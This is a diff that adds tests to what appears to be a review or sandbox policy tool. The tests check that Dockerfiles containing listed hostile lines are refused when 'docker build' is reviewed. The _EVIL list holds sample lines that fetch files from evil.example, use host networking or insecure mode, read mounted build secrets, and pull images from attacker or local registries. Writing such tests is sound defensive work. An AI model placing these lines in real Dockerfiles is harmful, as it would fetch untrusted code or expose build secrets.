@@ -146,6 +146,56 @@ def test_hostile_lines_are_refused_or_harmless(ground: Path) -> None:
         not_more_lenient(line.replace("{ws}", str(ground)), ground)
 
 
+# ---- builds -----------------------------------------------------------------------------------
+
+_GOOD = [
+    "RUN true",
+    "COPY data /d",
+    "ENV A=1",
+    "# a comment",
+    "",
+    "WORKDIR /w",
+    'CMD ["sh"]',
+    "ARG B",
+    "USER 1",
+]
+_EVIL = [
+    "ADD https://evil.example/x /x", "add HTTP://evil.example/x /x", "ADD git@github.com:evil/x.git /x",
+    "ADD --checksum=sha256:0 https://evil.example/x /x", 'ADD ["https://evil.example/x", "/x"]',
+    "RUN --network=host id", "RUN --security=insecure id", "RUN --mount=type=secret,id=x cat /run/secrets/x",
+    "RUN --mount=type=ssh id", "FROM 127.0.0.1:5000/x", "FROM localhost/x AS b", "from 192.168.0.9/x",
+    "COPY --from=127.0.0.1:5000/x /a /a", "ONBUILD ADD https://evil.example/x /x",
+    "ADD \\\n  https://evil.example/x \\\n  /x", "FROM evil.example/x",
+]  # fmt: skip
+
+
+@STEADY
+@given(
+    st.lists(st.sampled_from(_GOOD), max_size=4),
+    st.lists(st.sampled_from(_EVIL), max_size=1),
+    st.lists(st.sampled_from(_GOOD), max_size=3),
+    st.sampled_from(["\n", "\r\n"]),
+    st.sampled_from(["", "# syntax=evil.example/frontend", "#syntax = docker/dockerfile:1-labs"]),
+)
+def test_any_dockerfile(  # noqa: PLR0917 - the parts of one file
+    ground: Path, before: list[str], evil: list[str], after: list[str], end: str, syntax: str
+) -> None:
+    lines = [*([syntax] if syntax else []), "FROM busybox", *before, *evil, *after]
+    (ground / "Dockerfile").write_bytes(end.join(lines).encode())
+    for policy in POLICIES:
+        verdict = review("docker build -t x .", policy=policy, limits=LIMITS, workspace=ground, now=0.0)
+        if evil or syntax.startswith("# syntax=evil"):
+            assert verdict.decision is Decision.REFUSE, lines
+    not_more_lenient("docker build -t x .", ground)
+
+
+def test_a_good_dockerfile_is_not_refused(ground: Path) -> None:
+    (ground / "Dockerfile").write_text("\n".join(["FROM busybox", *_GOOD]), encoding="utf-8")
+    for policy in POLICIES:
+        verdict = review("docker build -t x .", policy=policy, limits=LIMITS, workspace=ground, now=0.0)
+        assert verdict.decision is Decision.ASK, verdict.reasons
+
+
 # ---- bodies -----------------------------------------------------------------------------------
 
 
